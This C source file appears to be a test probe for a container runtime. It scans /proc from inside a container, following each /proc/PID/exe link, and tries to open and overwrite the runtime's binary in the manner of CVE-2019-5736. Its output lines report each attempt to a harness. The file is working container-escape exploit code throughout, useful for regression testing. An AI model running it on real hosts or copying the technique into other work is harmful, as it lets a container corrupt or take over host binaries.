/* A hostile process of a container that looks for what runs with the runtime's power, and tries to overwrite it
 * (CVE-2019-5736). It follows /proc/PID/exe of every process, tries to open it for writing, keeps it open for reading,
 * and tries to write to it as soon as no process executes it any more.
 *
 *   grabber write       tries to write
 *   grabber look        only opens; for a container that sees processes of the host
 *
 * Prints `ready` first, and then each of these lines once: `seen LINK`, `opened LINK` for writing, `written LINK`.
 */
#define _GNU_SOURCE
#include <dirent.h>
#include <fcntl.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/mman.h>
#include <sys/stat.h>
#include <unistd.h>

enum { LINES = 512, HELD = 256, SIZE = 512 };

static char lines[LINES][SIZE];
static int held[HELD], lines_known, held_count;

static void say(const char *what, const char *link)
{
    char line[SIZE];
    int i;
    snprintf(line, sizeof line, "%s %.480s", what, link);
    for (i = 0; i < lines_known; i++)
        if (strcmp(lines[i], line) == 0)
            return;
    if (lines_known < LINES)
        strcpy(lines[lines_known++], line);
    puts(line);
    fflush(stdout);
}

/* Try to change a file that is open for writing. */
static void overwrite(int fd, const char *link)
{
    struct stat status;
    char *memory;
    if (pwrite(fd, "#!/bin/owned\n", 13, 0) > 0 || ftruncate(fd, 0) == 0 || fallocate(fd, 0, 0, 1 << 20) == 0)
        say("written", link);
    memory = mmap(NULL, 4096, PROT_READ | PROT_WRITE, MAP_SHARED, fd, 0);
    if (memory != MAP_FAILED) {
        if (fstat(fd, &status) == 0 && status.st_size > 0)
            memory[0] = 'x';
        say("written", link);
        munmap(memory, 4096);
    }
    fcntl(fd, F_ADD_SEALS, 0);
}

/* Whether this is a program of the image. */
static int is_ours(const char *link)
{
    return strncmp(link, "/bin/", 5) == 0 || link[0] == 0;
}

/* Whether a descriptor is of a program of the image: the process may have executed that since its link was read. */
static int is_fd_ours(int fd)
{
    char path[64], link[400] = "";
    snprintf(path, sizeof path, "/proc/self/fd/%d", fd);
    return readlink(path, link, sizeof link - 1) < 0 || is_ours(link);
}

static void try_to_write(const char *path, const char *link, int writes)
{
    static const int ways[] = {O_WRONLY, O_RDWR, O_WRONLY | O_APPEND};
    unsigned i;
    for (i = 0; i < sizeof ways / sizeof ways[0]; i++) {
        int fd = open(path, ways[i] | O_CLOEXEC);
        if (fd < 0)
            continue;
        if (!is_fd_ours(fd)) {
            say("opened", link);
            if (writes)
                overwrite(fd, link);
        }
        close(fd);
    }
}

static void look_at(const char *pid, int writes)
{
    char path[300], link[400] = "";
    int fd;
    snprintf(path, sizeof path, "/proc/%s/exe", pid);
    if (readlink(path, link, sizeof link - 1) < 0 || is_ours(link))
        return;
    say("seen", link);
    try_to_write(path, link, writes);
    fd = open(path, (held_count % 2 ? O_PATH : O_RDONLY) | O_CLOEXEC);
    if (fd >= 0 && !is_fd_ours(fd) && held_count < HELD)
        held[held_count++] = fd;
    else if (fd >= 0)
        close(fd);
}

static void try_what_is_held(int writes)
{
    char path[64], link[400];
    int i;
    for (i = 0; i < held_count; i++) {
        memset(link, 0, sizeof link);
        snprintf(path, sizeof path, "/proc/self/fd/%d", held[i]);
        if (readlink(path, link, sizeof link - 1) > 0) {
            fchmod(held[i], 0777);
            try_to_write(path, link, writes);
        }
        close(held[i]);
    }
    held_count = 0;
}

int main(int argc, char **argv)
{
    int writes = argc > 1 && strcmp(argv[1], "write") == 0, rounds = 0;
    puts("ready");
    fflush(stdout);
    for (;;) {
        DIR *proc = opendir("/proc");
        struct dirent *entry;
        while (proc != NULL && (entry = readdir(proc)) != NULL)
            if (entry->d_name[0] >= '0' && entry->d_name[0] <= '9' && atoi(entry->d_name) != getpid())
                look_at(entry->d_name, writes);
        if (proc != NULL)
            closedir(proc);
        if (++rounds % 50 == 0)
            try_what_is_held(writes);
    }
}
